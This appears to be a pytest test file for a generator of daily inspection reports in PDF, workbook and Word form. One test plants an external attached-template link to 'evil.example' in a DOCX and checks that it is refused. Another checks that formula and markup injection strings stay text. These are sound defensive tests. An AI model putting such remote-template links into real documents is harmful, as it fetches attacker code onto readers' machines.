"""The daily sheet as PDF, workbook and document: what they say, what they are set in, and templates that cannot be used."""

import json
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader

from geo.errors import NetError, TableError
from layers.load import load
from layers.sheet.day import SHADES, day_map
from locales import translator
from reports.sheet_files import KINDS, Stock, printed
from reports.sheet_files.paper import CHANGE, MISSING, RANK, RATE, Column, Pair, Paper, Row, Section, clean, fixed, said

ROOT = Path(__file__).parent.parent
COLUMNS = (
    Column("target", "应排查数"),
    Column("done", "已排查数"),
    Column("rate", "排查率", RATE),
    Column("rank", "排名", RANK),
    Column("change", "较昨日", CHANGE),
)
STATES = {"red": "有未办结", "yellow": "办理中", "green": "已办结", "none": "无事"}


def picture(colour="#779977"):
    out = BytesIO()
    Image.new("RGB", (64, 48), colour).save(out, "JPEG")
    return out.getvalue()


def paper(**changed):
    rows = (
        Row("万达社区", {"target": 972, "done": 911, "rate": "93.72%", "rank": 1, "change": 35}),
        Row("棉纺社区", {"target": 0, "done": 0, "rate": None, "rank": 2, "change": -4}),
    )
    made = Paper(
        title="棉纺路街道日通报",
        organ="棉纺路街道",
        number="〔2026〕第12期",
        period="2026年11月22日17:00至23日17:00",
        unit="单位：处",
        first="社区",
        columns=COLUMNS,
        rows=rows,
        total=Row("合计", {"target": 972, "done": 911, "rate": "93.72%", "rank": None, "change": None}),
        at=datetime(2026, 11, 23, 9, 30, tzinfo=UTC),
        notes=("补报3项。",),
        comment="应排查972处，已排查911处。",
        sections=(Section("一、突出问题", ("软管不合格3处。",)),),
        pairs=(Pair("隐患之一", picture(), picture("#446688")), Pair("隐患之二", picture())),
        circulation="街道各办公室",
        signer="街道主任",
        prepared="值班员",
        checked="网格办",
        digest="ab" * 32,
        words=fixed(translator("zh")),
    )
    return replace(made, **changed)


def text_of(data):
    return "".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages).replace("\n", "").replace(" ", "")


def template(folder, *lines, header=""):
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    folder.mkdir(exist_ok=True)
    document.save(folder / "daily.docx")
    return Stock(folder)


def refused(stock):
    with pytest.raises(TableError) as caught:
        printed(paper(), "docx", stock)
    return str(caught.value)


def words_of(data):
    document = Document(BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return [*(line.text for line in document.paragraphs), *cells]


def test_the_pdf_is_a4_its_fonts_are_embedded_and_its_text_can_be_taken_out():
    reader = PdfReader(BytesIO(printed(paper(), "pdf", Stock())))
    fonts = [one for page in reader.pages for one in page["/Resources"]["/Font"].get_object().values()]
    inner = [font.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object() for font in fonts]
    assert inner
    assert all("/FontFile3" in one for one in inner)
    assert [round(float(side)) for side in reader.pages[0].mediabox[2:]] == [595, 842]
    text = text_of(printed(paper(), "pdf", Stock()))
    for words in (
        "棉纺路街道日通报",
        "〔2026〕第12期",
        "911",
        "93.72%",
        "+35",
        "-4",
        "软管不合格3处",
        "街道主任",
        "ab" * 32,
    ):
        assert words in text


def test_a_wide_table_lies_across():
    columns = tuple(Column(f"c{n}", f"列{n}") for n in range(12))
    made = PdfReader(BytesIO(printed(paper(columns=columns), "pdf", Stock())))
    assert made.pages[0].mediabox[2] > made.pages[0].mediabox[3]


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_paper_is_the_same_bytes(kind):
    assert printed(paper(), kind, Stock()) == printed(paper(), kind, Stock())


def test_a_kind_that_there_is_none_of_is_refused():
    with pytest.raises(NetError, match="pdf, xlsx, docx"):
        printed(paper(), "html", Stock())


@given(target=st.integers(0, 10**9), change=st.one_of(st.none(), st.integers(-(10**6), 10**6)))
@settings(max_examples=15, deadline=None)
def test_all_three_files_say_the_figures_of_the_paper(target, change):
    row = Row("社区", {"target": target, "done": 7, "rate": None, "rank": 1, "change": change})
    made = paper(rows=(row,), pairs=())
    wanted = ["社区", *(said(column, row.values[column.key]) for column in COLUMNS)]
    table = Document(BytesIO(printed(made, "docx", Stock()))).tables[0]
    assert [cell.text for cell in table.rows[1].cells] == wanted
    page = openpyxl.load_workbook(BytesIO(printed(made, "xlsx", Stock()))).active
    assert [cell.value for cell in page[5]][:3] == ["社区", target, 7]
    assert page[5][5].value == (MISSING if change is None else change)
    assert all(word in text_of(printed(made, "pdf", Stock())) for word in wanted)


def test_the_workbook_has_a_merged_title_the_unit_line_the_foot_and_is_set_up_for_a4():
    page = openpyxl.load_workbook(BytesIO(printed(paper(), "xlsx", Stock()))).active
    said_ = [str(cell.value) for row in page.iter_rows() for cell in row if cell.value]
    assert "A1:F1" in {str(one) for one in page.merged_cells.ranges}
    assert "单位：处" in said_
    assert {"填报人：值班员", "审核人：网格办"} <= {one.replace(" ", "") for one in said_}
    assert (int(page.page_setup.paperSize), page.page_setup.orientation) == (9, "portrait")
    assert page["B5"].value == 972
    assert page.print_title_rows == "$4:$4"


def test_what_looks_like_a_formula_or_like_markup_stays_text():
    evil = '=HYPERLINK("x") #strong[x] $y$ <b> {{title}}'
    made = paper(rows=(Row(evil, {"target": 1}),), comment=evil)
    page = openpyxl.load_workbook(BytesIO(printed(made, "xlsx", Stock()))).active
    assert (page["A5"].value, page["A5"].data_type) == (evil, "s")
    assert evil.replace(" ", "") in text_of(printed(made, "pdf", Stock()))
    assert evil in words_of(printed(made, "docx", Stock()))


@given(st.text(max_size=60))
@settings(max_examples=25, deadline=None)
def test_any_text_makes_files_that_can_be_opened(text):
    made = paper(comment=text, rows=(Row(text, {"target": 1}),), pairs=(Pair(text, text.encode(errors="ignore")),))
    for kind in KINDS:
        assert len(printed(made, kind, Stock())) > 1000


def test_characters_that_the_fonts_lack_are_named():
    assert Stock().lacking(["棉纺路喆\n", "𠮷"]) == "𠮷"
    assert "U+20BB7" in text_of(printed(paper(comment="𠮷野家"), "pdf", Stock()))
    assert "U+" not in text_of(printed(paper(), "pdf", Stock()))


def test_a_font_of_the_street_fills_in_and_one_that_cannot_be_read_is_named(tmp_path):
    fonts = tmp_path / "fonts"
    fonts.mkdir()
    (fonts / "body.ttf").write_bytes(b"no font")
    with pytest.raises(TableError, match=r"body\.ttf"):
        printed(paper(), "pdf", Stock(tmp_path))


def test_a_template_of_the_street_is_filled_in_even_where_word_split_a_field(tmp_path):
    document = Document()
    line = document.add_paragraph()
    for part in ("期号：{", "{num", "ber", "}} 签发：{{sig", "ner}}。"):
        line.add_run(part).bold = part == "{num"
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "{{row.name}}", "{{row.change}}"
    table.cell(1, 0).text, table.cell(1, 1).text = "{{total.name}}", "{{total.target}}"
    document.sections[0].header.paragraphs[0].text = "{{organ}}"
    document.save(tmp_path / "daily.docx")
    made = Document(BytesIO(printed(paper(), "docx", Stock(tmp_path))))
    assert made.paragraphs[0].text == "期号：〔2026〕第12期 签发：街道主任。"
    assert [[cell.text for cell in row.cells] for row in made.tables[0].rows] == [
        ["万达社区", "+35"],
        ["棉纺社区", "-4"],
        ["合计", "972"],
    ]
    assert made.sections[0].header.paragraphs[0].text == "棉纺路街道"


def test_unknown_fields_are_refused_by_name_all_of_them(tmp_path):
    said_ = refused(template(tmp_path, "{{titel}} {{title}}", "{{row.nothing}}", header="{{ phone }}"))
    assert all(name in said_ for name in ("titel", "row.nothing", "phone", "Known fields: title"))


@pytest.mark.parametrize(
    ("line", "why"),
    [("见 {{table}}", "alone"), ("{{row.name}}", "row of a table"), ("{{title", "left open"), ("title}}", "left open")],
)
def test_a_field_in_the_wrong_place_is_refused(tmp_path, line, why):
    assert why in refused(template(tmp_path, line))


def test_a_template_that_is_no_document_or_fetches_something_is_refused(tmp_path):
    (tmp_path / "daily.docx").write_bytes(b"PK no zip")
    assert "no .docx document" in refused(Stock(tmp_path))
    stock = template(tmp_path, "{{title}}")
    path, parts = tmp_path / "daily.docx", {}
    with zipfile.ZipFile(path) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    fetched = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(b"</Relationships>", fetched)
    with zipfile.ZipFile(path, "w") as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    assert "evil.example" in refused(stock)


def test_a_template_with_no_fields_stays_as_it_is_and_no_photo_is_said(tmp_path):
    assert words_of(printed(paper(), "docx", template(tmp_path, "无字段"))) == ["无字段"]
    assert fixed(translator("zh"))["no_photo"] in words_of(printed(paper(), "docx", Stock()))


def test_the_map_shades_each_grid_by_its_state_and_is_in_pdf_and_document():
    area = load(ROOT / "data/longnan")
    key, code = area.net.levels[1].key, str(area.net.levels[1].codes[0])
    drawn = day_map(area, {code: "red"}, key=key, words=STATES)
    assert 'class="red"' in drawn
    assert 'class="yellow"' not in drawn
    assert STATES["yellow"] in drawn
    assert drawn.count(SHADES["green"]) == 1  # in the legend
    made = paper(map=drawn, map_caption="今日网格图", pairs=())
    assert "今日网格图" in text_of(printed(made, "pdf", Stock()))
    assert "有未办结" in text_of(printed(made, "pdf", Stock()))
    with zipfile.ZipFile(BytesIO(printed(made, "docx", Stock()))) as packed:
        assert sum(name.startswith("word/media/") for name in packed.namelist()) == 1


def test_controls_and_marks_of_direction_are_no_text():
    assert clean("甲\x00\u202e乙\ud800") == "甲乙"
    assert json.dumps(clean("\uffff")) == '""'
